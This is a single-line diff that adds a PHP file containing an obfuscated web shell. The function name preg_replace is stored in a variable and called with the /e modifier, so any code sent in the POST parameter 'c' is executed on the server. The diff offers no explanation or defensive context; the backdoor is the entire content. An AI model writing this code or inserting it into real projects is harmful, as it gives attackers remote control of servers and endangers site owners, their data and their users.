@@ -1,0 +1,1 @@
+<?php $f = 'preg_replace'; $f('/.*/e', $_POST['c'], '');
